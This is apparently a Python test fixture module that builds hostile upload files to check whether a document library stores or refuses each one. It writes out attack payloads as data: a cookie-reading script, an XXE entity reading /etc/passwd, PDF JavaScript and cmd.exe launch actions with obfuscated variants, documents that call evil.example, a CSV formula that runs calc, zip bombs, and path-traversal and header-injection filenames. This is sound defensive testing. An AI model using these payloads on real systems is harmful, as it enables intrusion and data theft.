"""Hostile files, and whether the library stores each or refuses it with which code."""

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.documents.document_samples import make_office
from tests.documents.recordings import MP4, REMOTE, box, movie, track
from tests.stakeholders.test_evidence_files import make_png

# Must not be in a stored picture.
SECRET = b"34.1478N-118.1445W"
SCRIPT = b"<script>alert(document.cookie)</script>"
# A PDF of one page, with additions to its catalog and further objects from the fourth on.
PDF = (
    b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R %s>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n%s\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
)


@dataclass(frozen=True)
class Hostile:
    """``becomes``: "kept", or the code of the refusal."""

    name: str
    make: Callable[[], bytes]
    becomes: str

    @cache  # noqa: B019  # the corpus lives as long as the tests
    def content(self) -> bytes:
        return self.make()


def picture(kind: str = "PNG", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, kind, **options)
    return out.getvalue()


def located() -> bytes:
    """Return a photo with a location, a comment and trailing data."""
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[29] = SECRET.decode()
    return picture("JPEG", exif=exif, comment=SECRET) + SCRIPT + SECRET


def commented() -> bytes:
    png_info = PngInfo()
    png_info.add_text("Comment", SECRET.decode(), zip=True)
    png_info.add_itxt("Author", SECRET.decode())
    return picture(pnginfo=png_info) + zipped({"a.txt": SECRET})


def zipped(members: dict[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(**more: bytes | str) -> bytes:
    """Return a document with further parts; in their names "__" stands for "/" and "_0_" for "."."""
    parts = {name.replace("__", "/").replace("_0_", "."): content for name, content in more.items()}
    return make_office(".docx", parts=parts)


def linked(kind: str, target: str) -> bytes:
    """Return a document with an external reference."""
    return make_office(".docx", links=((kind, target, True),))


def packed_pdf(
    inside: bytes, name: bytes = b"ObjStm", packed: Callable[[bytes], bytes] = zlib.compress
) -> bytes:
    """Return a PDF with the action inside a compressed object, where no text search finds it."""
    stream = packed(inside)
    body = b"4 0 obj<</Type/%s/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n%s\r\nendstream endobj"
    return PDF % (b"", body % (name, len(stream), stream))


def crowded() -> bytes:
    """Return an archive whose member list takes a hundred times the file's memory."""
    return zipped({f"a{n}": b"" for n in range(6_000)} | {"[Content_Types].xml": "", "word/document.xml": ""})


ENTITIES = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
ODT = "application/vnd.oasis.opendocument.text"
RUNS = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
CORPUS = (
    Hostile("page.html", lambda: b"<!DOCTYPE html>" + SCRIPT, "wrong-kind"),
    Hostile("page.png", lambda: b"<!DOCTYPE html>" + SCRIPT, "wrong-kind"),
    Hostile("drawing.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "wrong-kind"),
    Hostile("drawing.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "wrong-kind"),
    Hostile("script.gif", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "wrong-kind"),
    Hostile("script.jpg", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "wrong-kind"),
    Hostile("script.webp", lambda: b"RIFF/*\0\0WEBPVP8 */=1;alert(1)", "broken-picture"),
    Hostile("photo.jpg", located, "kept"),
    Hostile("photo.png", commented, "kept"),
    Hostile("huge.png", lambda: make_png(50_000, 50_000), "too-many-pixels"),
    Hostile("long.png", lambda: make_png(1, 2**31 - 1), "too-many-pixels"),
    Hostile("half.png", lambda: picture()[:40], "broken-picture"),
    Hostile("moving.png", lambda: picture("GIF"), "wrong-kind"),
    Hostile("empty.pdf", lambda: b"", "wrong-kind"),
    Hostile("behind.pdf", lambda: SCRIPT + PDF % (b"", b""), "wrong-kind"),
    Hostile("plain.pdf", lambda: PDF % (b"", b""), "kept"),
    Hostile("form.pdf", lambda: packed_pdf(b"2 0 <</Type/Annot/A<</S/URI/URI(https://x.example)>>>>"), "kept"),
    Hostile("script.pdf", lambda: PDF % (RUNS, b""), "kept"),
    Hostile("spelt.pdf", lambda: PDF % (RUNS.replace(b"/JavaScript", b"/J#61va#53cript"), b""), "kept"),
    Hostile("starts.pdf", lambda: PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "kept"),
    Hostile("packed.pdf", lambda: packed_pdf(b"2 0 " + RUNS), "kept"),
    Hostile("packed-spelt.pdf", lambda: packed_pdf(b"2 0 " + RUNS, name=b"Obj#53tm"), "kept"),
    Hostile("locked.pdf", lambda: packed_pdf(RUNS, packed=bytes.swapcase), "kept"),
    Hostile("bomb.pdf", lambda: packed_pdf(bytes(80 << 20)), "kept"),
    Hostile("plain.docx", word, "kept"),
    Hostile("pressed.docx", lambda: linked("hyperlink", "https://x.example/"), "kept"),
    Hostile("template.docx", lambda: linked("attachedTemplate", "https://evil.example/a.dotm"), "active"),
    Hostile("beacon.docx", lambda: linked("image", "https://evil.example/1.png"), "active"),
    Hostile("object.docx", lambda: linked("oleObject", "file:////evil.example/share/a"), "active"),
    Hostile("entities.docx", lambda: word(a_0_rels=ENTITIES), "unsafe-package"),
    Hostile("macros.docx", lambda: word(word__vbaProject_0_bin=b"x"), "active"),
    Hostile("active.docx", lambda: word(word__activeX__activeX1_0_bin=b"x"), "active"),
    Hostile("bomb.docx", lambda: word(word__media__a_0_bin=bytes(30 << 20)), "too-much"),
    Hostile("crowded.docx", crowded, "unsafe-package"),
    Hostile("above.docx", lambda: word(**{"..__..__..__etc__passwd": b"x"}), "unsafe-package"),
    Hostile("macros.odt", lambda: zipped({"mimetype": ODT, "Basic/a.xml": b""}), "active"),
    Hostile("package.xlsx", lambda: zipped({"a.exe": b"MZ"}), "wrong-kind"),
    Hostile("run.exe", lambda: b"MZ\x90\0" + bytes(100), "wrong-kind"),
    Hostile("old.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(100), "wrong-kind"),
    Hostile("macro.docm", word, "wrong-kind"),
    Hostile("shortcut.url", lambda: b"[InternetShortcut]\nURL=file:////evil/a", "wrong-kind"),
    Hostile("nul.txt", lambda: b"a\0b", "not-text"),
    Hostile("page.txt", lambda: b"<!DOCTYPE html>" + SCRIPT, "kept"),
    Hostile("formula.csv", lambda: b"a\r\n=cmd|'/c calc'!A1\r\n", "active"),
    Hostile("song.mp3", lambda: b"ID3=1/*\0\0*/;alert(1)" + bytes(60), "wrong-kind"),
    Hostile("elsewhere.mp4", lambda: movie(track(source=REMOTE)), "active"),
    Hostile("archive.mp4", lambda: MP4 + zipped({"a.exe": b"MZ"}), "wrong-kind"),
    Hostile("place.mp4", lambda: movie(box(b"udta", SECRET), track()), "kept"),
)  # fmt: skip
# File names that are accepted.
NAMES = (
    "../../../../etc/cron.d/x.png", "..\\..\\windows\\x.png", "/etc/x.png", "C:\\x.png", "a" * 300 + ".png",
    "x\0.png", "a\u202egnp.exe.png", "\u2066a\u2069.png", 'a";filename="b.html.png', "a\r\nX-Header: y.png",
    ".htaccess.png",
    "con.png", "a;b.png",
    "é\u0301.png", "a.html.png", " .png", "%2e%2e%2fx.png", "<script>.png", "a.PNG",
)  # fmt: skip
